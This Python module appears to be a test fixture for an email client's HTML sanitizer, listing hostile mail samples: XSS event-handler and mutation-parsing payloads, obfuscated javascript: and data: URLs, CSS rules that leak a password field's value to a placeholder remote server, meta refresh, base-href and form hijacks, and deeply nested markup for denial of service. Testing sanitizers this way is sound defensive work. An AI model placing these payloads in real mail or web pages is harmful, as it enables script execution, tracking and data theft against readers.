"""Hostile mail: HTML that tries to run something, to reach somebody, or to stop the reader.

In each, ``{remote}`` stands for a server that must hear nothing, and ``{run}`` for a script that
must not run. Elements of the class ``trap`` are clicked.
"""

from __future__ import annotations

RUN = "document.title='owned';try{top.document.title='owned'}catch(e){};top.location='#owned'"

SCRIPT = """<script>{run}</script><script src="{remote}/script.js"></script>
<script type="module">import "{remote}/module.js";{run}</script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["{remote}/spec"]}]}</script>
<body onload="{run}" onpageshow="{run}" onfocus="{run}" onresize="{run}">
<img src=x onerror="{run}"><img/src/onerror={run}><input autofocus onfocus="{run}">
<details open ontoggle="{run}">x</details><video onloadstart="{run}"><source onerror="{run}">
</video>
<div style="animation: a 1s" onanimationstart="{run}"></div><marquee onstart="{run}">x</marquee>
<style>@keyframes a {}</style><noscript><p title="</noscript><img src=x onerror={run}>"></noscript>
<title></title><style></style><!--><script>{run}</script>--><textarea></textarea><xmp></xmp>
<math><mtext><table><mglyph><style><img src=x onerror="{run}"></style></mglyph></table></mtext>
</math>
<template><script>{run}</script></template><button class="trap" onclick="{run}">Click</button>"""

SVG = """<svg onload="{run}" width="9" height="9"><script>{run}</script>
<script href="{remote}/svg.js"></script><image href="{remote}/image.png"/>
<image xlink:href="{remote}/image2.png"/><use href="{remote}/use.svg#x"/>
<feImage href="{remote}/fe.png"/>
<foreignObject><img src="{remote}/foreign.png"><iframe src="{remote}/frame"></iframe>
</foreignObject>
<set attributeName="onmouseover" to="{run}"/><animate attributeName="x" onbegin="{run}" dur="1s"/>
<a class="trap" href="javascript:{run}"><text y="9">x</text></a>
<style>@import url("{remote}/svg.css"); circle { fill: url("{remote}/fill.svg#a") }</style>
<circle r="9"/></svg>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'>
<image href='{remote}/nested.png'/></svg>"><object type="image/svg+xml" data="{remote}/o.svg">
</object>
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>">"""

CSS = """<style>@import "{remote}/import.css"; @import url({remote}/import2.css);
@font-face { font-family: f; src: url("{remote}/font.woff2") }
@font-face { font-family: g; src: url("{remote}/e") ; unicode-range: U+0065 }
* { font-family: f, g, serif; cursor: url("{remote}/cursor.png"), auto }
input[value^="s"] { background: url("{remote}/starts-with-s") }
a:visited { background: url("{remote}/visited") } body:hover { background: url("{remote}/hover") }
@media (min-width: 1px) { html { background-image: image-set("{remote}/set.png" 1x) } }
p::before { content: url("{remote}/content.png") } ul { list-style-image: url("{remote}/list.png") }
p { mask: url("{remote}/mask.svg#a"); filter: url("{remote}/filter.svg#a");
 border-image: url("{remote}/border.png"); shape-outside: url("{remote}/shape.png");
 clip-path: url("{remote}/clip.svg#a"); behavior: url("{remote}/x.htc") }
@namespace url("{remote}/ns"); @keyframes k { to { background: url("{remote}/key") } }
#over { position: fixed; inset: 0; z-index: 2147483647; animation: k 1ms; pointer-events: none }
</style><link rel="stylesheet" href="{remote}/style.css">
<link rel="preload" as="style" href="{remote}/p.css">
<input type="password" value="secret"><p style="background: url('{remote}/inline.png')">text</p>
<ul><li>x</ul><a href="{remote}/seen">x</a><div id="over"></div>
<p style='background: u\\72l("{remote}/escaped.png")'>escaped</p>
<table background="{remote}/table.png"></table>"""

REFRESH = """<meta http-equiv="refresh" content="0;url={remote}/refresh">
<meta http-equiv=refresh content="0;javascript:{run}">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>{run}</script>">
<meta http-equiv="set-cookie" content="owned=1">
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline' *">
<meta http-equiv="x-dns-prefetch-control" content="on"><noscript><meta http-equiv=refresh
content="0;url={remote}/noscript"></noscript><p>Refresh</p>"""

BASE = """<base href="{remote}/base/" target="_top"><base href="javascript:{run}//">
<img src="relative.png"><link rel="stylesheet" href="relative.css"><script src="relative.js">
</script>
<form action="relative" class="trap"><button class="trap">Send</button></form>
<object data="relative"></object><p>Base</p>"""

FORM = """<form id="f" action="{remote}/form" method="post" target="_top"><input name="a" value="b">
<button class="trap">Send</button><input class="trap" type="image" src="{remote}/image.png" alt="x">
<button class="trap" formaction="{remote}/formaction" formtarget="_blank">Other</button>
<button class="trap" formaction="javascript:{run}">Script</button></form>
<form action="/_ses/reset" method="post" target="_top"><button class="trap">Reset</button></form>
<form action="/_ses/messages/latest/events" method="post" enctype="text/plain">
<input type="hidden" name='{"type":"bounce","x":"' value='"}'><button class="trap">Bounce</button>
</form>
<button class="trap" form="f">Outside</button><isindex action="{remote}/isindex">
<form method="dialog"><button class="trap">Dialog</button></form>"""

URLS = """<a class="trap" href="javascript:{run}">a</a><a class="trap" href="JaVaScRiPt:{run}">b</a>
<a class="trap" href="java&#10;script:{run}">c</a><a class="trap" href="&#1;javascript:{run}">d</a>
<a class="trap" href="javascript&colon;{run}" target="_top">e</a>
<a class="trap" href="data:text/html,<script>{run}</script>">f</a>
<a class="trap" href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
target="_top">g</a>
<a class="trap" href="vbscript:{run}">h</a>
<a class="trap" href="blob:{remote}/x" target="_self">i</a>
<a class="trap" href="javascript:{run}" target="_parent">j</a>
<a class="trap" href="javascript:{run}" target="_self">k</a>
<a class="trap" href="#x" ping="{remote}/ping">l</a>
<a class="trap" href="view-source:{remote}">m</a>
<map name="m"><area class="trap" shape="rect" coords="0,0,9,9" href="javascript:{run}"></map>
<img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" width=9 height=9
alt="">"""

FRAMES = """<iframe src="{remote}/frame"></iframe><iframe srcdoc="<script>{run}</script>"></iframe>
<iframe srcdoc="<link rel=preconnect href={remote}><img src={remote}/srcdoc.png>"></iframe>
<iframe src="javascript:{run}"></iframe><iframe src="data:text/html,<script>{run}</script>">
</iframe>
<iframe src="/"></iframe><object data="{remote}/object"><embed src="{remote}/embed"></object>
<object data="/"></object><embed src="/" type="text/html"><applet code="{remote}/a"></applet>
<fencedframe></fencedframe><portal src="{remote}/portal"></portal>
<frameset><frame src="{remote}/frameset"></frameset><p>Frames</p>"""

HINTS = """<link rel="preconnect" href="{remote}"><link rel="dns-prefetch" href="{remote}">
<link rel="prefetch" href="{remote}/prefetch"><link rel="prerender" href="{remote}/prerender">
<link rel="preload" as="image" href="{remote}/preload.png">
<link rel="modulepreload" href="{remote}/m.js">
<link rel="icon" href="{remote}/favicon.ico"><link rel="manifest" href="{remote}/manifest.json">
<LINK REL='preconnect'HREF='{remote}'><link/rel=preconnect/href={remote}><p>Hints</p>"""

MEDIA = """<img src="{remote}/pixel.png">
<img srcset="{remote}/2x.png 2x, {remote}/1x.png 1x" src="x.png">
<picture><source srcset="{remote}/source.webp"><img alt="" src="{remote}/picture.png"></picture>
<video src="{remote}/video.mp4" poster="{remote}/poster.png" autoplay muted></video>
<video autoplay><source src="{remote}/v2.mp4"><track default src="{remote}/track.vtt"></video>
<audio src="{remote}/audio.mp3" autoplay></audio><img loading="eager" src="//{host}/scheme.png">
<img src="/I0/tracked"><input type="image" src="{remote}/input.png"><bgsound src="{remote}/b.wav">
<body background="{remote}/body.png"><img dynsrc="{remote}/d" lowsrc="{remote}/l"><p>Media</p>"""

CID = """<img src="cid:svg"><img src='cid:breaks"><script>{run}</script>'><object data="cid:page">
</object>
<embed src="cid:svg"><iframe src="cid:page"></iframe><img src="cid:type">
<a class="trap" href="cid:page">x</a>
<link rel="stylesheet" href="cid:style"><script src="cid:script"></script>
<p style="background:url(cid:svg)">
<img src="cid:twice"><svg><image href="cid:svg"/><use href="cid:svg#x"/></svg>"""

TABLE = "<table>" + ("<tr>" + "<td>cell</td>" * 50 + "</tr>") * 1000 + "</table>"
DEEP = "<div><b><font>" * 20_000 + "deep"
NESTED_TABLES = "<table><tr><td>" * 3000 + "deep"
LINKS = "".join(f'<a href="https://a.example/{number}">{number}</a> ' for number in range(20_000))
UNCLOSED = "<a href='" * 20_000 + "<!--" * 20_000 + "<style>" * 2_000

QUIET = {
    "script": SCRIPT,
    "svg": SVG,
    "css": CSS,
    "refresh": REFRESH,
    "base": BASE,
    "form": FORM,
    "urls": URLS,
    "frames": FRAMES,
    "hints": HINTS,
    "media": MEDIA,
    "cid": CID,
}
HEAVY = {
    "table": TABLE,
    "deep": DEEP,
    "nested tables": NESTED_TABLES,
    "links": LINKS,
    "unclosed": UNCLOSED,
}


def hostile(name: str, remote: str) -> str:
    """A mail of QUIET that is hostile to this server."""
    host = remote.partition("//")[2]
    return QUIET[name].replace("{run}", RUN).replace("{remote}", remote).replace("{host}", host)
